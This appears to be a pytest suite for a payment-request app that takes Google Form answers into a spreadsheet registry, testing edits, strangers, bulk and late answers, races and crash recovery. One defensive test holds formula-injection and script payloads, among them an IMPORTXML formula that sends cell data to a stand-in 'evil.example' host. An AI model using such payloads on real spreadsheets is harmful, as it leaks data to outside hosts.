"""From the form into the registry, over HTTP alone: answers sent, edited, hostile, late, and in hundreds."""

from __future__ import annotations

import itertools
import threading
from collections.abc import Mapping, Sequence
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import functions_framework
import pytest
from flask.testing import FlaskClient

from sheetflow.app.form import question_id
from sheetflow.app.process import PassReport
from sheetflow.core.rulebook import LANGUAGES
from sheetflow.emulator.forms.answers import Given
from sheetflow.errors import PortError
from sheetflow.model.events import Response
from sheetflow.ports import FormsPort
from sheetflow.runtime import from_environment
from sheetflow.workspace import cast
from sheetflow.workspace.local import TRIGGER, LocalWorkspace
from tests.conftest import Opener
from tests.faults.dying import run_pass
from tests.firm import GOOD, LETTERS_AT_ONCE, OTHER_ACCOUNT, Firm, Hand, text_of

SOURCE = Path(__file__).parents[2] / "functions" / "main.py"
READ, WRITE, LIST, MAIL = (
    "sheets.values.batchGet",
    "sheets.batchUpdate",
    "forms.responses.list",
    "gmail.messages.send",
)
FULL: Mapping[str, str] = {**{key: str(value) for key, value in GOOD.items()}, "amount": "12 500,50"}
"""A whole answer, by column key, as people type it."""
SHORT: Mapping[str, str] = {key: FULL[key] for key in ("subject", "amount", "currency", "pay_by")}
"""What the form itself asks for."""


def respond(firm: Firm, who: Hand | str, answers: Mapping[str, str | None] = FULL, **more: Any) -> Any:
    """Answer the form over HTTP; "send" is yes or no."""
    given = {question_id(key): value for key, value in answers.items()}
    if "send" in answers:
        given[question_id("send")] = firm.place.form.texts["send"][answers["send"] or "no"]
    return firm.post("/workspace/respond", {"as": str(who), "answers": given, **more})


def take(firm: Firm) -> PassReport:
    """A pass that looks at the form."""
    return firm.runtime.process().run(form=True)


def answered(firm: Firm, who: Hand | str, answers: Mapping[str, str | None] = FULL, **more: Any) -> str:
    """Answer the form and let a pass take it; gives the request's id."""
    known = set(firm.state())
    respond(firm, who, answers, **more)
    take(firm)
    (fresh,) = set(firm.state()) - known
    return fresh


def raw(firm: Firm, rid: str) -> dict[str, Any]:
    """A request's row as a pass reads it, blanks left out."""
    places = firm.columns()
    rows = firm.values("A2:AZ", "FORMULA")
    row = next(row for row in rows if row and row[places["id"]] == rid)
    return {key: row[at] for key, at in places.items() if at < len(row) and row[at] != ""}


def subjects(firm: Firm) -> list[str]:
    """What stands in the Registry, from above."""
    return [row[firm.columns()["subject"]] for row in firm.table() if any(row)]


# --- an answer becomes a request


@pytest.mark.parametrize("language", LANGUAGES)
def test_answer__becomes_a_draft_as_good_as_a_typed_one(opened: Opener, language: str) -> None:
    firm = opened(language)
    rid = answered(
        firm, firm.mia, {**SHORT, "inn": "7707083893", "invoice_date": "2026-11-20", "comment": "Soon"}
    )
    row, shown = raw(firm, rid), firm.row(rid)
    assert rid == "PR-000001"
    assert (row["amount"], row["pay_by"], row["invoice_date"]) == (12500.5, 46500, 46346)
    assert (row["inn"], row["comment"], row["currency"]) == ("7707083893", "Soon", "RUB")
    assert shown["pay_by"] == ("2027-04-23" if language == "en" else "23.04.2027")
    assert (shown["status"], shown["confirmed"]) == (firm.label("Draft"), firm.label("Draft"))
    assert shown["requester"] == {"en": "Mia Meadows", "ru": "Мария Лугова"}[language]
    labels = firm.runtime.book.own.labels["columns"]
    assert all(
        labels[key] in shown["checks"] for key in ("contractor", "account", "bik", "purpose", "details")
    )
    assert firm.letters() == {}
    assert not take(firm).commits


def test_answer__sent_at_once_is_submitted_and_the_approver_is_asked(fresh: Firm) -> None:
    rid = answered(fresh, fresh.mia, {**FULL, "send": "yes"})
    assert (fresh.status(rid), fresh.row(rid)["confirmed"], fresh.row(rid)["checks"]) == (
        "Submitted",
        "Submitted",
        "",
    )
    assert [address for address, _ in fresh.letters()] == [fresh.olga.address]
    assert ("RequestSubmitted", fresh.mia.address) in fresh.events(rid)
    fresh.olga.picks("Approved", rid)
    fresh.run()
    assert fresh.status(rid) == "Approved"
    fresh.verify()


def test_answer__that_cannot_be_sent_yet_stays_a_draft_and_its_author_is_told(firm: Firm) -> None:
    before = len(firm.mia.mails())
    rid = answered(firm, firm.mia, {**SHORT, "send": "yes"})
    assert (firm.status(rid), firm.row(rid)["status"]) == ("Draft", "Draft")
    assert "INN" in firm.row(rid)["checks"]
    (mail,) = firm.mia.mails()[before:]
    assert rid in str(mail["Subject"])
    assert "INN" in text_of(mail)


def test_answer__of_a_known_contractor_needs_only_the_inn(fresh: Firm) -> None:
    first = answered(fresh, fresh.mia, {**FULL, "send": "yes"})
    fresh.olga.picks("Approved", first)
    fresh.run()
    rid = answered(fresh, fresh.max, {**SHORT, "inn": str(GOOD["inn"]), "send": "yes"})
    row = fresh.row(rid)
    assert fresh.status(rid) == "Submitted", row["checks"]
    assert (row["contractor"], row["account"], row["bik"]) == (
        GOOD["contractor"],
        GOOD["account"],
        GOOD["bik"],
    )
    assert row["requester"] == "Max Mills"


# --- edited answers


def test_edited__changes_a_draft(firm: Firm) -> None:
    answer = respond(firm, firm.mia)["responseId"]
    take(firm)
    (rid,) = [rid for rid, row in firm.state().items() if answer in str(row)]
    respond(firm, firm.mia, {"amount": "700", "comment": "Cheaper"}, edit=answer)
    take(firm)
    row = firm.row(rid)
    assert (row["amount"], row["comment"], row["account"]) == ("700.00", "Cheaper", GOOD["account"])
    respond(firm, firm.mia, {"comment": None}, edit=answer)
    take(firm)
    assert firm.row(rid)["comment"] == ""
    assert firm.status(rid) == "Draft"


def test_edited__is_refused_with_a_message_once_it_was_submitted(firm: Firm) -> None:
    answer = respond(firm, firm.mia, {**FULL, "send": "yes"})["responseId"]
    take(firm)
    (rid,) = [rid for rid, row in firm.state().items() if answer in str(row)]
    before = len(firm.mia.mails())
    respond(firm, firm.mia, {"account": OTHER_ACCOUNT}, edit=answer)
    assert [refusal.rule for refusal in take(firm).refusals] == ["fields-change-in-draft"]
    assert (firm.status(rid), firm.row(rid)["account"]) == ("Submitted", GOOD["account"])
    (mail,) = firm.mia.mails()[before:]
    assert "fields-change-in-draft" in text_of(mail)
    assert ("EditRefused", firm.mia.address) in firm.events(rid)
    assert not take(firm).commits


# --- who answers


def test_stranger__waits_for_an_admin_and_nobody_else_hears_of_it(fresh: Firm) -> None:
    rid = answered(fresh, "stranger@elsewhere.example", {**FULL, "send": "yes"})
    assert (fresh.status(rid), fresh.row(rid)["requester"]) == ("Draft", "")
    assert [(template, to) for template, to, _ in fresh.outbox()] == [("stranger", fresh.ivan.address)]
    assert [address for address, _ in fresh.letters()] == [fresh.ivan.address]
    assert "stranger@elsewhere.example" in text_of(fresh.ivan.mails()[0])
    fresh.later("PT30M")
    assert not take(fresh).commits
    assert fresh.status(rid) == "Draft"


# --- hostile answers


def test_hostile__formulas_html_and_signs_stay_texts_and_are_held_in_words(firm: Firm) -> None:
    evil = {
        "subject": '=IMPORTXML("https://evil.example?x="&A1;"//a")',
        "contractor": "<script>alert(1)</script><b>ООО</b>",
        "purpose": "+1+1",
        "details": "@SUM(A1:A9)",
        "amount": "=1+1",
    }
    rid = answered(firm, firm.mia, {**FULL, **evil, "send": "yes"})
    row = raw(firm, rid)
    assert {key: row[key] for key in evil} == evil
    entered = firm.place.emulator.sheets.open(firm.spreadsheet, cast.OWNER)
    sheet = next(one for one in entered.book.sheets if one.sheet_id == firm.sheets["registry"])
    cell = sheet.cell(firm.number(rid) - 1, firm.columns()["subject"])
    assert cell.value == evil["subject"]  # a text: a formula would be an object of its own
    assert firm.status(rid) == "Draft"
    assert "formula" in firm.row(rid)["checks"]


@pytest.mark.parametrize(
    "text", ["x" * 60_000, "🧾" * 20_000, '"' * 60_000], ids=["long", "pictures", "quotes"]
)
def test_hostile__huge_texts_stop_no_pass(firm: Firm, text: str) -> None:
    huge = dict.fromkeys(("subject", "contractor", "purpose", "details", "comment", "invoice_no"), text)
    before = len(subjects(firm))
    respond(firm, "stranger@elsewhere.example", {**FULL, **huge, "send": "yes"})
    respond(firm, firm.mia, {**FULL, "subject": "After the huge one"})
    take(firm)
    assert [len(subject) for subject in subjects(firm)[before:]] == [2_500, 18]
    rid = [row for row in firm.table() if any(row)][before][firm.columns()["id"]]
    assert "2000" in firm.row(rid)["checks"]
    assert not take(firm).commits


# --- hundreds, late and at once


def pile_up(firm: Firm, numbers: Sequence[int], who: str = "") -> None:
    """Answers that came while nothing ran; in process, since they are many."""
    for number in numbers:
        values = {question_id(key): [value] for key, value in SHORT.items()}
        values[question_id("subject")] = [f"Paper {number}"]
        firm.place.emulator.forms.intake.submit(
            firm.place.settled.form, who or firm.mia.address, Given(values=values)
        )


def test_hundreds__that_came_while_the_functions_were_dead_are_taken_once_and_in_order(fresh: Firm) -> None:
    fresh.run()
    pile_up(fresh, range(500))
    fresh.later("P3D")
    for done in range(100, 501, 100):
        before = fresh.last_call()
        report = take(fresh)
        assert report.more is (done < 500)
        assert fresh.calls(before) == [READ, LIST, WRITE]
        assert len(fresh.state()) == done
    assert subjects(fresh) == [f"Paper {n}" for n in range(500)]
    ids = list(fresh.state())
    assert len(set(ids)) == 500
    assert fresh.letters() == {}
    before = fresh.last_call()
    assert not take(fresh).commits
    assert fresh.calls(before) == [READ, LIST]
    pile_up(fresh, [500])
    take(fresh)
    assert subjects(fresh)[-1] == "Paper 500"
    assert len(fresh.state()) == 501


def test_late__answers_that_bear_an_earlier_time_are_still_taken(fresh: Firm) -> None:
    for number in range(3):
        respond(fresh, fresh.mia, {**SHORT, "subject": f"On time {number}"})
    take(fresh)
    fresh.later("-PT1M")
    respond(fresh, fresh.mia, {**SHORT, "subject": "Late"})
    fresh.later("PT1M")
    take(fresh)
    take(fresh)
    assert subjects(fresh) == ["On time 0", "On time 1", "On time 2", "Late"]


class Hiding:
    """A form that does not show all of its answers at once (FormsPort)."""

    def __init__(self, form: FormsPort, hidden: int) -> None:
        self.form, self.hidden = form, hidden

    def responses(self, since: datetime | None) -> Sequence[Response]:
        found = list(self.form.responses(since))
        return [one for place, one in enumerate(found) if place != self.hidden][::-1]


def test_late__answers_that_the_service_shows_late_and_in_disorder_are_taken_once(fresh: Firm) -> None:
    for number in range(4):
        respond(fresh, fresh.mia, {**SHORT, "subject": f"Paper {number}"})
    process = fresh.runtime.process()
    assert process.forms is not None
    process.forms = Hiding(process.forms, hidden=1)
    process.run(form=True)
    assert subjects(fresh) == ["Paper 0", "Paper 2", "Paper 3"]
    take(fresh)
    take(fresh)
    assert subjects(fresh) == ["Paper 0", "Paper 2", "Paper 3", "Paper 1"]


def test_race__two_instances_take_each_answer_once(fresh: Firm) -> None:
    fresh.run()
    pile_up(fresh, range(30))
    runtimes = [from_environment(fresh.environment) for _ in range(2)]
    start, reports = threading.Barrier(2), []

    def instance(number: int) -> None:
        runtimes[number].clock = fresh.clock
        process = runtimes[number].process()
        start.wait()
        reports.append(process.run(form=True))

    threads = [threading.Thread(target=instance, args=(number,)) for number in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(reports) == 2
    assert subjects(fresh) == [f"Paper {n}" for n in range(30)]
    assert len(fresh.state()) == 30
    assert not take(fresh).commits


@pytest.fixture(scope="module")
def waiting(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A closed workspace whose form was answered while nothing ran."""
    folder = tmp_path_factory.mktemp("answered")
    with LocalWorkspace(folder, scheduled=False, functions=False, settings=LETTERS_AT_ONCE) as place:
        firm = Firm.at(place).shorten()
        firm.run()
        respond(firm, firm.mia, {**FULL, "subject": "Sent", "send": "yes"})
        respond(firm, firm.max, {**SHORT, "subject": "Draft"})
        respond(firm, "stranger@elsewhere.example", {**SHORT, "subject": "Strange"})
        firm.close()
    return folder


def outcome(firm: Firm) -> tuple[Any, ...]:
    """What came of it."""
    rows = [
        (row["id"], row["subject"], row["status"], row["requester"]) for row in map(firm.row, firm.state())
    ]
    firm.verify()
    return rows, firm.letters(), [event for event in firm.events() if event[0].startswith("Request")]


def test_kill__between_any_two_calls_takes_each_answer_once_and_writes_each_mail_once(
    opened: Opener, waiting: Path
) -> None:
    firm = opened(copy_of=waiting)
    take(firm)
    undisturbed = outcome(firm)
    assert [row[1] for row in undisturbed[0]] == ["Sent", "Draft", "Strange"]
    assert set(undisturbed[1].values()) == {1}
    calls: list[str] = []
    for after in itertools.count():
        firm = opened(copy_of=waiting)
        before = firm.last_call()
        killed = run_pass(firm.environment, after, form=True)
        calls = firm.calls(before)
        if not killed:
            break
        firm.later()
        take(firm)
        assert outcome(firm) == undisturbed, f"killed after {calls}"
        assert not take(firm).commits
        firm.place.close()
    assert calls == [READ, LIST, WRITE, MAIL, MAIL, WRITE]


def test_lost__an_answer_to_the_commit_loses_and_doubles_nothing(opened: Opener, waiting: Path) -> None:
    firm = opened(copy_of=waiting)
    firm.post(
        "/workspace/faults", {"path": ":batchUpdate", "method": "POST", "status": 503, "after_effect": True}
    )
    take(firm)
    assert [row[1] for row in outcome(firm)[0]] == ["Sent", "Draft", "Strange"]
    assert set(firm.letters().values()) == {1}


# --- the function, the trigger, the schedule


@pytest.fixture
def client(firm: Firm, monkeypatch: pytest.MonkeyPatch) -> Any:
    """A function as functions-framework serves it, its environment that of the workspace."""
    for name, value in firm.environment.items():
        monkeypatch.setenv(name, value)

    def make(target: str) -> FlaskClient:
        app = functions_framework.create_app(target, str(SOURCE))  # type: ignore[no-untyped-call]
        return app.test_client()  # type: ignore[no-any-return]

    return make


def nudge(firm: Firm, client: Any, name: str, account: str) -> Any:
    token = firm.place.emulator.identity.id_token(account, firm.place.settled.client_id)
    body = {"spreadsheet": firm.spreadsheet, "event": "u1"}
    return client(name).post("/", json=body, headers={"Authorization": f"Bearer {token}"})


def test_function__takes_all_that_waits(firm: Firm, client: Any) -> None:
    take(firm)
    known = len(firm.state())
    pile_up(firm, range(230))
    answer = nudge(firm, client, "on_form_submit", cast.OWNER)
    assert (answer.status_code, answer.get_json()["commits"]) == (200, 3)
    assert len(firm.state()) == known + 230
    assert "@" not in answer.text


def test_function__lets_in_the_trigger_alone(firm: Firm, client: Any) -> None:
    before = firm.last_call()
    assert nudge(firm, client, "on_form_submit", cast.SCHEDULER).status_code == 403
    assert nudge(firm, client, "on_form_submit", firm.mia.address).status_code == 403
    assert client("on_form_submit").post("/", json={"spreadsheet": firm.spreadsheet}).status_code == 401
    assert client("on_form_submit").get("/").status_code == 405
    assert set(firm.calls(before)) <= {"oauth.certs"}


def test_function__the_schedule_takes_a_hundred_at_a_time(firm: Firm, client: Any) -> None:
    take(firm)
    known = len(firm.state())
    pile_up(firm, range(120))
    for taken in (100, 120, 120):
        assert nudge(firm, client, "on_schedule", cast.SCHEDULER).status_code == 200
        assert len(firm.state()) == known + taken


def test_function__an_edit_does_not_wait_for_the_form(firm: Firm, client: Any) -> None:
    before = firm.last_call()
    assert nudge(firm, client, "on_edit", cast.OWNER).status_code == 200
    assert LIST not in firm.calls(before)


@pytest.mark.parametrize("status", [403, 404, 503])
def test_function__a_form_out_of_reach_keeps_no_edit_waiting_and_is_not_kept_quiet(
    firm: Firm, client: Any, monkeypatch: pytest.MonkeyPatch, status: int
) -> None:
    monkeypatch.setattr("sheetflow.adapters.google.READ_TRIES", 1)
    take(firm)
    rid = firm.mia.drafts()
    firm.post("/workspace/faults", {"path": "/responses", "status": status, "times": 99})
    answer = nudge(firm, client, "on_schedule", cast.SCHEDULER)
    firm.forget_faults()
    assert answer.status_code == (503 if status == 503 else 500)
    assert firm.status(rid) == "Draft"


def test_trigger__a_dead_function_fails_no_respondent(firm: Firm) -> None:
    (run,) = respond(firm, firm.mia, SHORT)["triggers"]
    assert (run["function"], run["ok"]) == ("onRegistryFormSubmit", True)
    assert "waits for the schedule" in run["log"][0]


def test_trigger__nudges_the_deployed_function_which_takes_the_answer(opened: Opener) -> None:
    firm = opened()
    firm.place.functions.start("on_form_submit")
    (run,) = respond(firm, firm.mia, {**FULL, "send": "yes"})["triggers"]
    assert (run["ok"], run["log"]) == (True, [])
    assert [firm.status(rid) for rid in firm.state()] == ["Submitted"]
    assert [address for address, _ in firm.letters()] == [firm.olga.address]


# --- the place


def test_place__tells_of_the_form_in_the_registrys_language(opened: Opener) -> None:
    firm = opened("ru")
    told = firm.get("/workspace")["form"]
    assert told["id"] == firm.environment["SHEETFLOW_FORM"]
    page = firm._session.get(
        told["url"], headers={"Authorization": f"Bearer local:{firm.mia.address}"}, timeout=30
    )
    assert page.ok
    for text in ("Заявка на оплату", "За что платим", "Эл. версия счета", "Сразу передать на согласование?"):
        assert text in page.text
    assert list(firm.place._sheets.tabs(firm.spreadsheet).values())[-1] == "Ответы на форму"


def test_place__the_tab_of_answers_is_googles_to_write_and_disturbs_nothing(fresh: Firm) -> None:
    tabs = fresh.place._sheets.tabs(fresh.spreadsheet)
    assert next(iter(tabs.values())) == "Registry"
    assert list(tabs.values())[-1] == "Form responses"
    rid = answered(fresh, fresh.mia)
    rows = fresh.values("A1:Z", tab="responses")
    assert (len(rows), rows[1][1]) == (2, fresh.mia.address)
    with pytest.raises(AssertionError, match="protected"):
        fresh.mia.enters("'Form responses'!C2", "changed")
    (tab,) = [sheet for sheet, title in tabs.items() if title == "Form responses"]
    fresh.robot.batch({"deleteSheet": {"sheetId": tab}})
    again = answered(fresh, fresh.mia, {**FULL, "subject": "Without a tab"})
    assert [fresh.row(one)["subject"] for one in (rid, again)] == [FULL["subject"], "Without a tab"]


def test_place__opened_again_has_the_same_form_one_tab_and_one_trigger(opened: Opener, waiting: Path) -> None:
    firm = opened(copy_of=waiting)
    emulator = firm.place.emulator
    assert emulator.forms.only() == firm.environment["SHEETFLOW_FORM"]
    assert list(firm.place._sheets.tabs(firm.spreadsheet).values()).count("Form responses") == 1
    assert len(emulator.scripts.projects.triggers(spreadsheet=firm.spreadsheet, event="ON_FORM_SUBMIT")) == 1
    assert emulator.scripts.run(TRIGGER, "setUpForm").ok
    assert len(emulator.scripts.projects.triggers(spreadsheet=firm.spreadsheet, event="ON_FORM_SUBMIT")) == 1
    form = emulator.forms.form(firm.place.settled.form)
    assert sum(question.kind == "file" for question in form.questions) == 1
    assert (form.options.allow_edits, form.options.confirmation[:9]) == (True, "Thank you")


def test_place__without_a_form_the_product_has_no_form(firm: Firm) -> None:
    runtime = from_environment({**firm.environment, "SHEETFLOW_FORM": ""})
    assert runtime.forms() is None
    runtime.process().run(form=True)


def test_place__a_form_that_is_not_shared_is_said(firm: Firm) -> None:
    runtime = from_environment(
        {**firm.environment, "SHEETFLOW_ACCESS_TOKEN": "local:nobody@elsewhere.example"}
    )
    forms = runtime.forms()
    assert forms is not None
    with pytest.raises(PortError):
        forms.responses(datetime.now().astimezone() - timedelta(days=1))
    forms.close()
